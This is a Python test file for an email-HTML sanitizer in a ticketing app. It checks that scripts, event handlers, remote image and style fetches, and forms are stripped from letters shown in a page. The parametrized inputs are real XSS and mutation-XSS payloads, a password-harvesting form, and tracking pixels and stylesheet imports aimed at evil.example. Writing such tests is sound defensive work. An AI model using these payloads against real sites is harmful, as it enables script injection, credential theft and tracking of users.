"""A letter's HTML in a page: nothing runs, nothing is fetched, nothing is hidden."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mailticket.web.mail_html import harmless

FORBIDDEN = ("form", "input", "style", "base", "svg", "iframe")


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<form action=https://evil.example><input name=password><button>Enviar</button></form>",
        "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
        "<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example/>",
        "<div style='background:url(https://evil.example/x.png)'>x</div>",
        "<table background='https://evil.example/x.png'><tr><td>x</table>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<img src='https://evil.example/pixel.gif' srcset='https://evil.example/2.gif 2x'>",
        "<video src='https://evil.example/v.mp4' poster='https://evil.example/p.png'></video>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    ],
)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    shown = harmless(html, {}).html.lower()
    for forbidden in ("script", "onerror", "onload", "evil.example/x", "pixel", *(f"<{tag}" for tag in FORBIDDEN)):
        assert forbidden not in shown, shown
    for place in ("src=", "background", "poster", "srcset", "data:"):
        assert place not in shown, shown


def test_pictures_that_would_be_fetched_are_counted_by_their_hosts() -> None:
    shown = harmless("<img src='https://a.example/1'><img src='https://a.example/2'><img src=//b.example/3><form>", {})
    assert (shown.remote, shown.forms) == ({"a.example": 2, "b.example": 1}, 1)


def test_a_picture_that_lies_in_the_letter_is_shown() -> None:
    shown = harmless("<img src='cid:logo@x' alt=Logo>", {"logo@x": ("image/png", b"\x89PNG")})
    assert 'src="data:image/png;base64,iVBORw=="' in shown.html


def test_a_drawing_that_may_hold_a_script_is_not_shown_as_a_picture() -> None:
    assert "src" not in harmless("<img src='cid:x'>", {"x": ("image/svg+xml", b"<svg onload=alert(1)>")}).html


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: white", ""),
        ("background-color: black", ""),
        ("color: white; background: black", 'style="color: white; background-color: black"'),
        ("font-weight: bold; position: fixed; top: 0", 'style="font-weight: bold"'),
        ("display:none", ""),
    ],
)
def test_colour_and_background_stay_together_or_go_together(style: str, kept: str) -> None:
    assert harmless(f'<p style="{style}">x</p>', {}).html == f"<p{' ' if kept else ''}{kept}>x</p>"


@given(st.text(alphabet="<>/='\" abimgsrcscriptonerrorjavascript:;&#x0A-!", max_size=120))
def test_whatever_is_written_no_handler_and_no_script_are_left(html: str) -> None:
    shown = harmless(html, {}).html
    assert "<script" not in shown.lower()
    assert harmless(shown, {}).html == shown
